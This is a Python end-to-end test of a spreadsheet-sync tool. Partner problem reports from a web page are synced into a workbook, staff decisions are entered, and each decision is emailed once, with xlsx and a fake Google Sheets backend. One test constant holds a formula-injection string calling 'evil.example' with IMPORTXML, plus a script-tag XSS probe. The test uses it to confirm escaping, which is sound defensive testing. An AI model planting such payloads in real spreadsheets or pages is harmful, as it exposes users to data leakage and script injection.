"""The loop end to end, on a real .xlsx file and on the fake Sheets API v4 (real gspread
code paths, the fake mounted as its HTTP session), with every step of the pipeline: a
partner sends two reports from the launch page, the manager is alerted, staff type the
decisions into the Partner Problems rows, and the partner gets each decision by email
exactly once and sees both on the page; an edited decision goes out once more as a
correction. On Google, within the call budget: a sync that writes makes at most 3 calls,
an unchanged rerun 1.

Tuesday 10 March 2026, Paris, a 09:00-18:00 day."""

from __future__ import annotations

import email
from collections.abc import Callable, Iterator
from dataclasses import dataclass, replace
from datetime import datetime
from email.message import EmailMessage
from email.policy import default as default_policy
from pathlib import Path

import gspread
import openpyxl
import pytest
from web_shop import BASE, SECRET, START, Clock, make_config, workbook

from sheets_sync.backends.base import Backend
from sheets_sync.backends.google import GoogleBackend
from sheets_sync.backends.google_retry import RetryPolicy
from sheets_sync.backends.google_setup import prepare_spreadsheet
from sheets_sync.backends.xlsx import XlsxBackend, write_new_workbook
from sheets_sync.cells import CellValue
from sheets_sync.config import Config, MailConfig
from sheets_sync.journal import Journal
from sheets_sync.links import LinkSigner
from sheets_sync.pipeline import build_steps
from sheets_sync.sync import SyncReport, run_sync
from sheets_sync.testing import FakeSheets, fake_session
from sheets_sync.workbook import Snapshot, column_letter
from web import create_app

TAB = "Partner Problems"
HOSTILE = '=IMPORTXML("http://evil.example","//a") <script>alert(1)</script>'


@dataclass
class Loop:
    """One workshop: a backend, the staff's hands on the workbook, the journal, the app."""

    name: str
    config: Config
    clock: Clock
    backend: Callable[[], Backend]  # a new one per sync, as each run makes one
    type_cell: Callable[[str, str, str, CellValue], None]  # staff typing: tab, key, column
    sort_newest_first: Callable[[str, str], None]  # staff sorting a tab by a column, Z-A
    fake: FakeSheets | None = None

    def sync(self) -> SyncReport:
        return run_sync(self.backend(), self.config, self.clock.now, build_steps(self.config))

    def read(self) -> Snapshot:
        return self.backend().read()

    def cell(self, tab: str, key: str, column: str) -> CellValue:
        table = self.read().table(tab)
        assert table is not None
        key_column = "Problem ID" if tab == TAB else table.headers[0]
        return table.value(table.keyed(key_column)[key], column)

    def calls(self, sync: Callable[[], SyncReport]) -> tuple[SyncReport, int]:
        if self.fake is None:
            return sync(), 0
        self.fake.reset_counters()
        report = sync()
        return report, len(self.fake.calls)

    def outbox(self) -> list[EmailMessage]:
        out = []
        for path in sorted(self.config.mail.outbox_dir.glob("*.eml")):
            msg = email.message_from_bytes(path.read_bytes(), policy=default_policy)
            assert isinstance(msg, EmailMessage)
            out.append(msg)
        return out


def _config(tmp_path: Path) -> Config:
    base = make_config(tmp_path)
    return replace(
        base,
        workshop=replace(base.workshop, manager_email="manager@lumen.example",
                         staff_emails=("desk@lumen.example",)),
        mail=replace(MailConfig(), transport="outbox", outbox_dir=tmp_path / "outbox",
                     ledger_path=tmp_path / "var" / "ledger.sqlite3",
                     sender="Atelier Lumen <desk@lumen.example>"),
    )


def _xlsx(tmp_path: Path, config: Config, clock: Clock) -> Loop:
    path = write_new_workbook(tmp_path / "workshop.xlsx", workbook())
    config = replace(config, workbook=replace(config.workbook, path=path))

    def type_cell(tab: str, key: str, column: str, value: CellValue) -> None:
        wb = openpyxl.load_workbook(path)
        ws = wb[tab]
        header = [c.value for c in ws[1]]
        row = next(r for r in ws.iter_rows(min_row=2) if r[0].value == key)
        cell = row[header.index(column)]
        cell.value = value
        if isinstance(value, str):
            cell.data_type = "s"  # typed as text (in Excel: a leading apostrophe)
        wb.save(path)
        wb.close()

    def sort_newest_first(tab: str, column: str) -> None:
        wb = openpyxl.load_workbook(path)
        ws = wb[tab]
        header = [c.value for c in ws[1]]
        rows = [[c.value for c in r] for r in ws.iter_rows(min_row=2)]
        rows.sort(key=lambda r: r[header.index(column)], reverse=True)
        for r, values in enumerate(rows, start=2):
            for c, value in enumerate(values, start=1):
                ws.cell(row=r, column=c).value = value
        wb.save(path)
        wb.close()

    return Loop("xlsx", config, clock, lambda: XlsxBackend(path), type_cell, sort_newest_first)


def _google(tmp_path: Path, config: Config, clock: Clock) -> Loop:
    fake = FakeSheets()
    for name, rows in workbook().items():
        fake.add_sheet(name, [list(r) for r in rows])

    def backend() -> Backend:
        client = gspread.Client(auth=None, session=fake_session(fake))  # type: ignore[arg-type]
        return GoogleBackend(fake.id, client, retry=RetryPolicy(sleep=lambda _: None))

    prepared = backend()
    assert isinstance(prepared, GoogleBackend)
    assert "added tab Partner Problems" in prepare_spreadsheet(prepared)  # init --google

    def type_cell(tab: str, key: str, column: str, value: CellValue) -> None:
        grid = fake.values(tab)
        row = next(i for i, r in enumerate(grid) if r and r[0] == key)
        fake.human_set(tab, f"{column_letter(grid[0].index(column))}{row + 1}", value)

    def sort_newest_first(tab: str, column: str) -> None:
        fake.human_sort(tab, fake.values(tab)[0].index(column), reverse=True)

    return Loop("google", config, clock, backend, type_cell, sort_newest_first, fake)


@pytest.fixture(params=["xlsx", "google"])
def loop(request: pytest.FixtureRequest, tmp_path: Path,
         monkeypatch: pytest.MonkeyPatch) -> Iterator[Loop]:
    monkeypatch.setenv("SHEETS_SYNC_SECRET", SECRET)
    config = _config(tmp_path)
    clock = Clock(START)
    yield (_xlsx if request.param == "xlsx" else _google)(tmp_path, config, clock)


def _kind(msg: EmailMessage) -> str:
    return "".join(str(msg["X-Sheets-Sync-Id"]).split()).split(":")[1]


def _plain(msg: EmailMessage) -> str:
    body = msg.get_body(preferencelist=("plain",))
    assert body is not None
    return str(body.get_content()).replace("\r\n", "\n")


def test_two_reports_decided_in_the_workbook_reach_the_partner_once_each(loop: Loop) -> None:
    report, calls = loop.calls(loop.sync)  # 09:30: links and pages published
    assert report.written is not None and calls <= 3, calls
    link = str(loop.cell("Launches", "L-1", "⚙ Link"))
    assert link.startswith(BASE + "/p/")
    path = link[len(BASE):]

    journal = Journal(loop.config.web.journal_path)
    signer = LinkSigner([SECRET], loop.config.web.link_days, BASE, loop.clock)
    app = create_app(loop.config, journal, signer, now=loop.clock)
    client = app.test_client()
    try:
        for minutes, text in ((10, "Porosity inside the band after casting"),
                              (10, "Two side stones missing from the parcel")):
            loop.clock.advance(minutes=minutes)
            page = client.get(path).get_data(as_text=True)
            idem = page.split('name="idem" value="')[2].split('"')[0]  # the problem form's
            csrf = page.split('name="csrf" value="')[2].split('"')[0]
            answer = client.post(path, data={"action": "problem", "text": text, "idem": idem,
                                             "csrf": csrf})
            assert answer.status_code == 303
        loop.clock.advance(minutes=10)  # 10:00
        report, calls = loop.calls(loop.sync)
        assert report.written is not None and calls <= 3, calls
        rows = loop.read().table(TAB)
        assert rows is not None
        reports = [rows.value(i, "Report") for i in range(len(rows.rows))]
        assert reports == ["Porosity inside the band after casting",
                           "Two side stones missing from the parcel"]
        ids = [str(rows.value(i, "Problem ID")) for i in range(len(rows.rows))]
        assert loop.cell("Launches", "L-1", "⚙ State") == "Problem"
        assert str(loop.cell("Launches", "L-1", "⚙ Problem")).startswith(
            "2 open, latest reported 10/03/2026 09:50: Two side stones")
        alerts = [m for m in loop.outbox() if _kind(m) == "problem_alert"]
        assert [str(m["To"]) for m in alerts] == ["manager@lumen.example"] * 2

        report, calls = loop.calls(loop.sync)  # the same moment again: nothing to write
        assert not report.changes and report.written is None
        assert calls == (1 if loop.fake else 0)

        loop.sort_newest_first(TAB, "Reported At")  # staff sort: rows are found by key
        assert loop.read().table(TAB).value(0, "Problem ID") == ids[1]  # type: ignore[union-attr]
        loop.type_cell(TAB, ids[0], "Decision", "Recast it; we send 4 g of 18KY today.")
        loop.type_cell(TAB, ids[0], "Decided By", "Marc")
        loop.type_cell(TAB, ids[1], "Decision", HOSTILE)
        loop.clock.advance(hours=1)  # 11:00
        report, calls = loop.calls(loop.sync)
        assert report.written is not None and calls <= 3, calls
        assert loop.cell(TAB, ids[0], "⚙ Decided At") == datetime(2026, 3, 10, 11, 0)
        assert loop.cell(TAB, ids[0], "⚙ Hours To Decision") == 1.3  # from 09:40
        assert loop.cell(TAB, ids[1], "⚙ Hours To Decision") == 1.2  # from 09:50
        assert loop.cell(TAB, ids[1], "⚙ Sent Decision") == HOSTILE  # text, not a formula
        assert loop.cell(TAB, ids[1], "⚙ State") == "Sent"
        assert loop.cell("Launches", "L-1", "⚙ State") == "Sent"
        assert loop.cell("Launches", "L-1", "⚙ Problem") == "none open"
        if loop.fake is not None:
            grid = loop.fake.values(TAB)
            col = grid[0].index("⚙ Sent Decision")
            row = next(i for i, r in enumerate(grid) if r and r[0] == ids[1]) + 1
            stored = loop.fake.cell(TAB, f"{column_letter(col)}{row}")
            assert stored.get("userEnteredValue") == {"stringValue": HOSTILE}

        report, calls = loop.calls(loop.sync)  # an unchanged rerun
        assert not report.changes and calls == (1 if loop.fake else 0)

        decisions = [m for m in loop.outbox() if _kind(m) == "problem_decision"]
        assert [str(m["To"]) for m in decisions] == ["atelier@dupont.example"] * 2
        hostile = next(m for m in decisions if HOSTILE in _plain(m))
        assert "> Two side stones missing from the parcel" in _plain(hostile)
        assert link in _plain(hostile)
        html = hostile.get_body(preferencelist=("html",))
        assert html is not None
        markup = str(html.get_content())
        assert "<script>" not in markup and "&lt;script&gt;alert(1)&lt;/script&gt;" in markup

        shown = client.get(path).get_data(as_text=True)
        thread = shown[shown.index('id="problems"'):shown.index('id="ack"')]
        assert thread.count('class="decision"') == 2
        assert "Recast it; we send 4 g of 18KY today." in thread
        assert "&lt;script&gt;" in thread and "<script>" not in thread
        assert thread.index("Porosity") < thread.index("Recast it") < thread.index("Two side stones")

        loop.type_cell(TAB, ids[0], "Decision", "Recast it; we send 5 g of 18KY today.")
        loop.clock.advance(minutes=30)
        for _ in range(3):
            loop.sync()
        decisions = [m for m in loop.outbox() if _kind(m) == "problem_decision"]
        assert len(decisions) == 3
        correction = [m for m in decisions
                      if str(m["Subject"]).strip().startswith("Correction: decision on your report")]
        assert len(correction) == 1 and "5 g of 18KY" in _plain(correction[0])
        assert loop.cell(TAB, ids[0], "⚙ Version") == 2
        assert loop.cell(TAB, ids[0], "⚙ Decided At") == datetime(2026, 3, 10, 11, 0)
        ids_sent = [str(m["X-Sheets-Sync-Id"]) for m in loop.outbox()]
        assert len(ids_sent) == len(set(ids_sent))
    finally:
        journal.close()

